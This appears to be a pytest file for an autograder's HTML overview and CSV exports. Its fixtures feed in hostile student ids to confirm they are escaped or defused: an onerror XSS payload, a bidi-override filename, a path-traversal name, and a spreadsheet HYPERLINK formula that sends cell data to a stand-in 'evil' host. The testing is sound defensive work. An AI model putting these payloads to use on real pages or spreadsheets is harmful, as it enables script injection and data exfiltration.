"""Tests for the class overview page and the CSV exports: hostile ids stay inert, hidden checks stay hidden."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from grader.models import CheckResult, ClassReport, Outcome, Report, SimilarCluster, UnattributedFile
from grader.output import write_class_outputs
from grader.render import render_checks_csv, render_class_pages, render_grades_csv, render_html, render_overview
from grader.render.csv import number, text_cell
from grader.render.overview import CLUSTERS_SHOWN, MEMBERS_SHOWN, STUDENTS_PER_PAGE, histogram, report_href

IMG = "<img src=x onerror=alert(1)>"
BIDI_NAME = "eve\u202egnp.exe"
FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")'
SECRET = "SECRET-EXPECTED-tensor([0.25])"
TITLES = {"ex01_basics": "Basics", "ex02_activations": "Activations"}
CSP = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"


def check(exercise: str, name: str, outcome: Outcome, points: float, max_points: float, **kw: object) -> CheckResult:
    function = {"ex01_basics": "add", "ex02_activations": "softmax"}[exercise]
    return CheckResult(exercise, function, name, outcome, points, max_points, **kw)  # type: ignore[arg-type]


def student(name: str, add: bool, tensors: bool, softmax: bool, hidden: bool, **kw: object) -> Report:
    """A report with four checks (10 points in all): pass/fail per flag, the last one hidden."""
    P, F = Outcome.PASSED, Outcome.FAILED
    checks = (
        check(
            "ex01_basics", "test_add_ints", P if add else F, 2.0 if add else 0.0, 2.0, message="" if add else "got 3"
        ),
        check(
            "ex01_basics",
            "test_add_tensors",
            P if tensors else Outcome.ERROR,
            2.5 if tensors else 0.0,
            2.5,
            message="" if tensors else f"RuntimeError: shape mismatch\n{IMG}",
        ),
        check(
            "ex02_activations",
            "test_softmax_rows",
            P if softmax else F,
            3.0 if softmax else 0.0,
            3.0,
            message="" if softmax else "rows do not sum to 1",
        ),
        check(
            "ex02_activations",
            "test_softmax_hidden",
            P if hidden else F,
            2.5 if hidden else 0.0,
            2.5,
            hidden=True,
            message="" if hidden else SECRET,
            output=SECRET,
        ),
    )
    return Report(student=name, checks=checks, exercise_titles=TITLES, assignment="Week 3: tensors", **kw)  # type: ignore[arg-type]


def make_class() -> ClassReport:
    """Six students: 100, 100 (a copy), 75, 45, 20 and 0 percent, plus one that could not be graded."""
    reports = (
        student("alice", True, True, True, True),
        student("bob", True, True, True, True),
        student(IMG, True, True, True, False, problems=("cell 3 skipped",)),  # 7.5 / 10
        student(BIDI_NAME, True, True, False, False),  # 4.5
        student(FORMULA, True, False, False, False, problems=("a", "b")),  # 2
        student("dave smith/../x", False, False, False, False),  # 0
    )
    return ClassReport(
        assignment="Week 3: tensors",
        reports=reports,
        exercise_titles=TITLES,
        similar=(SimilarCluster(("alice", "bob"), 0.973, ("ex01_basics", "ex02_activations")),),
        errors=(f"mallory {IMG}: the grading engine crashed twice",),
    )


class Tree(HTMLParser):
    """Collect tags, text, and text inside SVG ``<text class=count>``; check nesting."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.counts: list[str] = []
        self.errors: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in {"meta", "br", "img", "input", "link", "hr"}:
            self.stack.append(tag if dict(attrs).get("class") != "count" else "count")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.errors.append(f"self-closing <{tag}/>")

    def handle_endtag(self, tag: str) -> None:
        top = self.stack.pop() if self.stack else None
        if top not in {tag, "count" if tag == "text" else None}:
            self.errors.append(f"</{tag}> closes {top}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self.stack and self.stack[-1] == "count":
            self.counts.append(data)


def parse(page: str) -> Tree:
    tree = Tree()
    tree.feed(page)
    tree.close()
    assert tree.errors == [] and tree.stack == []
    return tree


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- overview ---------------------------------------------------------------


def test_overview_is_self_contained_with_the_strict_csp() -> None:
    page = render_overview(make_class())
    tree = parse(page)
    assert page.startswith("<!DOCTYPE html>")
    tags = [tag for tag, _ in tree.tags]
    assert {"script", "link", "img", "iframe", "object", "embed", "form", "foreignobject"}.isdisjoint(tags)
    metas = [attrs for tag, attrs in tree.tags if tag == "meta"]
    assert {"charset": "utf-8"} in metas
    assert next(a["content"] for a in metas if a.get("http-equiv") == "Content-Security-Policy") == CSP
    assert not any("src" in attrs or any(k.startswith("on") for k in attrs) for _, attrs in tree.tags)
    assert all(attrs.get("scope") in {"col", "row"} for tag, attrs in tree.tags if tag == "th")


def test_overview_summary() -> None:
    text = "".join(parse(render_overview(make_class())).text)
    assert "6 students graded" in text and "1 could not be graded" in text
    assert "Mean score 56.7%" in text  # (100 + 100 + 75 + 45 + 20 + 0) / 6
    assert "Median score 60.0%" in text


def test_overview_histogram() -> None:
    page = render_overview(make_class())
    tree = parse(page)
    svgs = [attrs for tag, attrs in tree.tags if tag == "svg"]
    assert len(svgs) == 1 and svgs[0]["role"] == "img"
    label = svgs[0]["aria-label"] or ""
    assert "0\u201310: 1" in label and "90\u2013100: 2" in label
    assert "title" in [tag for tag, _ in tree.tags[tree.tags.index(("svg", svgs[0])) :]]
    assert [int(c) for c in tree.counts] == [1, 0, 1, 0, 1, 0, 0, 1, 0, 2]
    assert len(re.findall(r'<rect class="bar-rect"', page)) == 10
    assert "Score (%)" in page and "Students" in page
    heights = [float(h) for h in re.findall(r'<rect class="bar-rect"[^>]* height="([0-9.]+)"', page)]
    assert heights[9] == max(heights) and heights[1] == 0 and heights[0] == heights[9] / 2


def test_histogram_bins_edges() -> None:
    counts = [b.count for b in histogram([0.0, 9.99, 10.0, 99.9, 100.0, 150.0, -5.0])]
    assert counts == [3, 1, 0, 0, 0, 0, 0, 0, 0, 3]
    assert [b.count for b in histogram([])] == [0] * 10


def test_overview_links_quote_student_ids() -> None:
    page = render_overview(make_class())
    hrefs = [attrs["href"] for tag, attrs in parse(page).tags if tag == "a"]
    assert "%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E/report.html" in hrefs
    assert "eve%E2%80%AEgnp.exe/report.html" in hrefs
    assert "dave%20smith%2F..%2Fx/report.html" in hrefs  # a slash cannot leave the student's folder
    assert hrefs.count("alice/report.html") == 2  # the table and the similar group
    assert all(h.isascii() and '"' not in h and "<" not in h for h in hrefs if h)
    assert report_href("caf\u00e9") == "caf%C3%A9/report.html"
    assert report_href("raw\udcff") == "raw%FF/report.html"  # os.fsdecode of byte 0xff
    assert report_href("lone\ud800") == "lone%ED%A0%80/report.html"


def test_overview_escapes_student_text() -> None:
    page = render_overview(make_class())
    assert "<img" not in page
    assert "\u202e" not in page
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", page)
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    text = "".join(parse(page).text)
    assert IMG in text and "eve\\u202egnp.exe" in text
    assert f"mallory {IMG}: the grading engine crashed twice" in text  # the errors section


def test_overview_checks_hardest_first_and_hidden_stays_hidden() -> None:
    page = render_overview(make_class())
    assert SECRET not in page
    names = re.findall(r'<th scope="row"><code>(test_\w+)</code>', page)
    # pass counts: hidden 2/6, softmax_rows 3/6, add_tensors 4/6, add_ints 5/6
    assert names == ["test_softmax_hidden", "test_softmax_rows", "test_add_tensors", "test_add_ints"]
    text = " ".join(parse(page).text)
    assert "2 / 6 (33%)" in text and "5 / 6 (83%)" in text
    assert "failed (hidden check)" in text
    assert "rows do not sum to 1" in text and "RuntimeError: shape mismatch" in text
    assert 'style="width: 33.3%"' in page


def test_overview_common_reasons_similar_groups_and_flags() -> None:
    page = render_overview(make_class())
    section = page[page.index('id="reasons-heading"') : page.index('id="similar-heading"')]
    reasons = re.findall(r"<tr>\n<td>(.*?)</td>\n<td class=\"points\">(\d+)</td>", section)
    assert reasons[0] == ("failed (hidden check)", "4")
    assert ("rows do not sum to 1", "3") in reasons and ("got 3", "1") in reasons
    similar = page[page.index('id="similar-heading"') :]
    assert "97.3%" in similar and "Basics, Activations" in similar
    assert page.count('href="#cluster-1">group 1</a>') == 2  # alice and bob flagged
    assert '<tr id="cluster-1">' in similar and "similar.html" not in page  # every group fits: no link out
    students = page[page.index('id="students-heading"') : page.index('id="checks-heading"')]
    row = students[students.index("&lt;img") :].split("</tr>")[0]
    assert re.findall(r'<td class="points">([^<]*)</td>', row) == ["7.5", "10", "75.0%", "4.5", "3", "1"]


def test_overview_of_an_empty_class() -> None:
    page = render_overview(ClassReport("", ()))
    text = "".join(parse(page).text)
    assert "0 students graded" in text and "No students were graded." in page
    assert "No checks were run." in page and "No similar submissions were found." in page
    assert "Could not be graded" not in page


# --- csv --------------------------------------------------------------------


def test_grades_csv() -> None:
    out = render_grades_csv(make_class())
    assert out.endswith("\r\n")
    table = rows(out)
    exercises = ["ex01_basics", "ex02_activations"]
    assert table[0] == ["student", "score", "max_score", "percent", *exercises, "id", "name", "late"]
    assert table[1] == ["alice", "10", "10", "100", "4.5", "5.5", "alice", "alice", ""]
    assert table[3][:6] == [IMG, "7.5", "10", "75", "4.5", "3"]
    assert table[4][:6] == ["eve\\u202egnp.exe", "4.5", "10", "45", "4.5", "0"]
    assert table[5][:6] == ["'" + FORMULA, "2", "10", "20", "2", "0"]
    assert table[5][6:8] == ["'" + FORMULA, "'" + FORMULA]  # the id and name columns are defused too
    assert table[6][0] == "dave smith/../x"
    assert len(table) == 7
    for row in table[1:]:  # the subtotals add up to the score
        assert float(row[1]) == sum(float(x) for x in row[4:6])


def test_csv_numbers_and_formula_guard() -> None:
    assert [number(x) for x in (40.0, 12.5, 0.1 + 0.2, 1 / 3, -0.0, 0.0)] == ["40", "12.5", "0.3", "0.3333", "0", "0"]
    for evil in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "  =1+1"):
        assert text_cell(evil).startswith("'")
    assert text_cell("\r=1") == "\\x0d=1"  # escaped, so no longer a formula
    assert text_cell("a=b") == "a=b" and text_cell("") == ""


def test_checks_csv_redacts_hidden_checks() -> None:
    report = student(FORMULA, True, False, False, False)
    out = render_checks_csv(report)
    assert SECRET not in out
    table = rows(out)
    assert table[0] == ["exercise", "function", "check", "outcome", "points", "max_points", "message"]
    assert table[1] == ["ex01_basics", "add", "test_add_ints", "passed", "2", "2", ""]
    assert table[2][:6] == ["ex01_basics", "add", "test_add_tensors", "error", "0", "2.5"]
    assert table[2][6] == f"RuntimeError: shape mismatch\n{IMG}"  # quoted multi-line cell
    assert table[4] == ["ex02_activations", "softmax", "test_softmax_hidden", "failed", "0", "2.5", ""]


# --- a large class: paged students, capped clusters --------------------------


def big_class(students: int, clusters: int) -> ClassReport:
    """``students`` students; the first ``2 * clusters + 40`` in clusters: one of 42, then pairs."""
    reports = tuple(student(f"s{i:05d}", i % 2 == 0, i % 3 == 0, i % 5 == 0, i % 7 == 0) for i in range(students))
    names = [r.student for r in reports]
    groups = [SimilarCluster(tuple(names[:42]), 1.0, ("ex01_basics",))]
    groups += [
        SimilarCluster(tuple(names[42 + 2 * k : 44 + 2 * k]), 0.9, ("ex02_activations",)) for k in range(clusters - 1)
    ]
    return ClassReport("Week 3: tensors", reports, exercise_titles=TITLES, similar=tuple(groups))


def student_links(fragment: str) -> list[str]:
    return re.findall(r'<a href="([^"]*/report\.html)">', fragment)


def test_a_large_class_is_paged_and_every_student_is_on_exactly_one_page() -> None:
    report = big_class(1201, clusters=25)
    pages = render_class_pages(report)
    assert sorted(pages) == ["index.html", "similar.html", "students-2.html", "students-3.html"]
    listed: list[str] = []
    for name in ("index.html", "students-2.html", "students-3.html"):
        page = pages[name]
        table = page[page.index('id="students-heading"') :]
        table = table[: table.index("</table>")]
        listed += student_links(table)
        hrefs = {a["href"] for tag, a in parse(page).tags if tag == "a"}
        assert {"students-2.html", "students-3.html"} - {name} <= hrefs  # every other page is one click away
        assert name == "index.html" or "index.html" in hrefs
    assert listed == [f"s{i:05d}/report.html" for i in range(1201)]
    assert STUDENTS_PER_PAGE == 500 and "Students 1&ndash;500 of 1201" in pages["index.html"]
    assert "Students 1001&ndash;1201 of 1201" in pages["students-3.html"]
    assert "1201</strong> students graded" in pages["index.html"]
    # results.json keeps every student and every cluster, whatever the pages show
    data = report.to_dict()
    assert len(data["students"]) == 1201 and len(data["similar"]) == 25 <= len(data["students"])


def test_the_overview_shows_the_largest_clusters_and_similar_html_all_of_them() -> None:
    report = big_class(200, clusters=25)
    pages = render_class_pages(report)
    index, similar = pages["index.html"], pages["similar.html"]
    section = index[index.index('id="similar-heading"') :]
    rows = re.findall(r'<tr id="cluster-(\d+)">', section)
    assert rows == [str(n) for n in range(1, CLUSTERS_SHOWN + 1)]  # the largest first, capped
    first = section[section.index('<tr id="cluster-1">') : section.index('<tr id="cluster-2">')]
    assert len(student_links(first)) == MEMBERS_SHOWN and f"and {42 - MEMBERS_SHOWN} more" in first
    assert 'href="similar.html"' in section and "The 20 largest of 25 groups" in section
    assert re.findall(r'<tr id="cluster-(\d+)">', similar) == [str(n) for n in range(1, 26)]
    assert len(student_links(similar)) == 42 + 2 * 24  # every member of every group
    # A flagged student's badge leads to their group, on whichever page shows it.
    assert 'href="#cluster-1">group 1</a>' in index
    assert 'href="similar.html#cluster-25">group 25</a>' in index


def test_stale_student_pages_of_a_larger_class_are_removed(tmp_path: Path) -> None:
    write_class_outputs(tmp_path, big_class(1201, clusters=1))
    assert (tmp_path / "students-3.html").is_file()
    (tmp_path / "students-7.html.bak").write_text("mine")
    write_class_outputs(tmp_path, big_class(600, clusters=1))
    assert sorted(p.name for p in tmp_path.glob("students-*")) == ["students-2.html", "students-7.html.bak"]


# --- nu html checker --------------------------------------------------------


def lms_class() -> ClassReport:
    """A class read from an LMS export: display names, a late flag, and files that belong to no one."""
    first = replace(student("1001", True, True, True, True), name=f"Smith, {IMG}", late=True)
    reports = (first, student("1002", False, False, False, False))
    stray = (UnattributedFile(f"{IMG}.py", "does not follow Canvas's naming"), UnattributedFile("a\u202eb.txt", "?"))
    return ClassReport("Week 3", reports, TITLES, layout="canvas", layout_title="Canvas", unattributed=stray)


def test_overview_names_the_layout_and_lists_unattributed_files() -> None:
    page = render_overview(lms_class())
    tree = parse(page)
    text = "".join(tree.text)
    assert "Read as Canvas (detected)" in text and "2 files not attributed to a student" in text
    assert f"{IMG}.py" in text and "does not follow Canvas's naming" in text
    assert "a\\u202eb.txt" in text and "\u202e" not in page  # bidi made visible, never live
    assert f"Smith, {IMG}" in text and "<img" not in page  # the display name, escaped
    assert [tag for tag, attrs in tree.tags if attrs.get("class") == "badge flag"] == ["span"]  # one late badge
    forced = render_overview(ClassReport("Week 3", (), layout="folder", layout_title="a folder per student",
                                         layout_detected=False))  # fmt: skip
    assert "chosen with --layout" in forced and "not attributed" not in forced


def test_overview_passes_the_nu_html_checker(tmp_path: Path, vnu: Any) -> None:
    pages = {
        "index.html": render_overview(make_class()),
        "lms.html": render_overview(lms_class()),
        "empty.html": render_overview(ClassReport("", ())),
        **{f"big-{name}": page for name, page in render_class_pages(big_class(1201, clusters=25)).items()},
        "report.html": render_html(make_class().reports[2]),
    }
    for name, page in pages.items():
        (tmp_path / name).write_text(page, encoding="utf-8")
    messages = vnu([tmp_path / name for name in pages])
    assert messages == [], vnu.describe(messages)


def test_overview_counts_non_submitters_apart_and_never_as_a_reason() -> None:
    missing = tuple(
        Report(
            name,
            (
                check("ex01_basics", "test_add_ints", Outcome.PASSED, 2.0, 2.0),
                check("ex02_activations", "test_softmax_rows", Outcome.NOT_ATTEMPTED, 0.0, 3.0, message=message),
            ),
            exercise_titles=TITLES,
            not_submitted=not_submitted,
        )
        for name, message, not_submitted in (
            ("late", "ex02_activations.py was not submitted", ("ex02_activations",)),
            ("later", "ex02_activations.py was not submitted", ("ex02_activations",)),
            ("stub", "softmax still raises NotImplementedError: it has not been written yet", ()),
        )
    )
    tried = Report(
        "tried",
        (
            check("ex01_basics", "test_add_ints", Outcome.PASSED, 2.0, 2.0),
            check("ex02_activations", "test_softmax_rows", Outcome.FAILED, 0.0, 3.0, message="rows do not sum to 1"),
        ),
        exercise_titles=TITLES,
    )
    page = render_overview(ClassReport("A", (*missing, tried), exercise_titles=TITLES))
    checks = page[page.index('id="checks-heading"') : page.index('id="reasons-heading"')]
    text = " ".join(parse(page).text)
    assert "0 / 1 (0%)" in text  # softmax: 0 passed of the 1 student who attempted it
    assert "2 not submitted, 1 not attempted" in text
    assert "rows do not sum to 1" in text
    reasons = page[page.index('id="reasons-heading"') : page.index('id="similar-heading"')]
    for section in (checks, reasons):
        assert "was not submitted" not in section and "NotImplementedError" not in section
    names = re.findall(r'<th scope="row"><code>(test_\w+)</code>', page)
    assert names == ["test_softmax_rows", "test_add_ints"]
